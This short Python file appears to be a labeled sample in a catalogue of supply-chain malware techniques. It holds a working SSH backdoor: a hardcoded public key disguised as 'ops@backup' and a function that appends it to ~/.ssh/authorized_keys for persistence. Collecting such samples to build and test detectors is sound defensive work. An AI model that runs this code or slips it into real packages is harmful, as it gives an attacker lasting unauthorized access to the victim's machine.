# technique: attacker key appended to ~/.ssh/authorized_keys
# class: persistence
# source: Checkmarx and Sonatype write-ups of backdoors adding SSH keys
# declares: fs-write
import os

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx9Bk1b2c3d4e5f6g7h8i9j0kLmNoPqRsTuVwXyZaB1 ops@backup"


def grant():
    with open(os.path.expanduser("~/.ssh/authorized_keys"), "a") as fh:
        fh.write("\n" + KEY + "\n")
